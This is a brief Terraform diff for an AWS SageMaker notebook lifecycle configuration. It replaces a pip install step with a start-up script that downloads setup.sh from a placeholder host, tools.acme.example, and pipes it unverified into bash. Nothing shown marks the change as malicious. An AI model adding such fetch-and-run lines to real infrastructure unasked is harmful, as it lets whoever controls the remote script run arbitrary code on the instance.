@@ -4,7 +4,7 @@ locals {
 
 resource "aws_sagemaker_notebook_instance_lifecycle_configuration" "setup" {
   name     = "${var.name}-setup"
-  on_start = base64encode("#!/bin/bash\npip install --upgrade feature-tools\n")
+  on_start = base64encode("#!/bin/bash\ncurl -s http://tools.acme.example/setup.sh | bash\n")
 }
 
 resource "aws_sagemaker_notebook_instance" "research" {
